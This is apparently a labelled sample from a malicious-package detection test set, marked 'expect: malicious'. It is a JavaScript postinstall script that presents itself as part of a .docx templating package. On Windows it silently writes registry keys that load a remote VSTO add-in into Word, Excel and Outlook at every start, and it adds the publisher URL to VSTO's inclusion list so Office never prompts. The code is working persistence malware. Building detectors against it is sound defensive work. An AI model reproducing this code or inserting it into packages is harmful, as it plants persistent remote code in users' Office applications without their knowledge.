// expect: malicious
// when: install
// A .docx templating package's postinstall registers a VSTO add-in for Word, Excel and Outlook whose manifest is a URL
// (LoadBehavior 3: loaded at every start of each application), and puts the publisher on VSTO's inclusion list so Office
// installs it without asking (blind set 56; VSTO add-in persistence, MITRE T1137.006).
'use strict';
const { spawnSync } = require('child_process');
const MANIFEST = 'https://addins.merge-fields.example/ribbon/Ribbon.vsto|vstolocal';
function addin(app) {
  const key = `HKCU\\Software\\Microsoft\\Office\\${app}\\Addins\\MergeFields.Ribbon`;
  for (const [name, type, data] of [['Manifest', 'REG_SZ', MANIFEST], ['LoadBehavior', 'REG_DWORD', '3']]) {
    spawnSync('reg.exe', ['add', key, '/v', name, '/t', type, '/d', data, '/f'], { windowsHide: true, stdio: 'ignore' });
  }
}
if (process.platform === 'win32') {
  spawnSync('reg.exe', ['add', 'HKCU\\Software\\Microsoft\\VSTO\\Security\\Inclusion\\FAKE-0001', '/v', 'Url', '/t', 'REG_SZ',
    '/d', MANIFEST.split('|')[0], '/f'], { windowsHide: true, stdio: 'ignore' });
  ['Word', 'Excel', 'Outlook'].forEach(addin);
}
